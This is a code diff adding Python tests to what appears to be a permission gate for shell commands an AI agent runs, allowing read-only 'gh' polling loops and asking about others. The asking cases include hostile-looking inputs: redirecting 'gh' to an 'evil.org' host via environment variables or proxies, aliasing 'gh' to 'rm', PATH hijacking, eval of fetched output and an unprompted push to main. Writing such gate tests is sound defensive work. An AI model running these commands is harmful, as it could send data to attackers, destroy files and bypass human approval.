@@ -1369,3 +1369,49 @@ def test_deny_and_ask_rules_win_over_all_changes_elsewhere(workspace: Workspace)
         assert decided(command, workspace, CHANGED + parse_rules(deny=[f"network({kind})"])).decision == "ask"
     settings(workspace, "https://github.com/a/b.git", "[core]\n\tfsmonitor = x\n")
     assert decided("gh pr create -t x -b y", workspace, CHANGED).decision == "ask"
+
+
+@each_row(
+    "command",
+    [
+        "until gh pr checks 16 2>&1 | grep -qv pending; do sleep 20; done; gh pr checks 16 2>&1 | head -10",
+        'while true; do s=$(gh run view 5 --json status); echo "$s"; [ "$s" = completed ] && break; sleep 20; done',
+        'x=$(gh pr view 5 --json author -q .author.login) && echo "$x"',
+        "cd src && until gh pr checks 5 > /dev/null; do sleep 1; done",
+    ],
+)
+def test_a_line_of_any_form_that_only_reads_from_a_forge_runs(command: str, workspace: Workspace) -> None:
+    assert decided(command, workspace).decision == "allow"
+    assert asked(command, workspace, parse_rules(allow=["sandbox(*)"])).decision == "allow"
+    assert decided(command, replace(workspace, gated=False)).decision == "ask"
+
+
+@each_row(
+    "command",
+    [
+        "while true; do gh pr merge 5; done",
+        "while true; do s=$(gh run view 5 --json status); $s; done",
+        "while true; do s=$(gh run view 5 --json status); eval \"$s\"; done",
+        "while true; do gh pr view 5 > a.txt; done",
+        "until gh pr checks 5; do ./x.sh; done",
+        "until gh pr checks 5; do npm test; done",
+        "until gh pr checks 5; do curl https://example.org; done",
+        "until gh pr checks 5 & do sleep 1; done",
+        "until gh pr checks 5 -R evil.org/a/b; do sleep 1; done",
+        "cd /etc; until gh pr checks 5; do sleep 1; done",
+        "x=$(gh pr view 5); cat \"$x\"",
+        "x=$(gh pr view 5); gh pr view \"$x\"",
+        "for n in 1 2; do if gh pr view $n; then git push origin main; fi; done",
+        *(
+            f"{sets}; until gh pr checks 5; do sleep 1; done"
+            for sets in (
+                "gh() { rm x; }", "PATH=.:$PATH", "GH_HOST=evil.org", "export gh_host=a", "typeset -x a=b", "http_proxy=evil.org", "set -a",
+                "read -r GH_HOST", "printf -v GH_HOST evil.org", ": ${GH_HOST:=evil.org}", "alias gh=rm", "unset a",
+            )
+        ),
+        "until GH_HOST=evil.org gh pr checks 5; do sleep 1; done",
+        "for GH_HOST in evil.org; do x=$(gh pr view 5); done",
+    ],
+)  # fmt: skip
+def test_a_line_that_does_more_than_read_from_a_forge_asks(command: str, workspace: Workspace) -> None:
+    assert decided(command, workspace).decision == "ask"
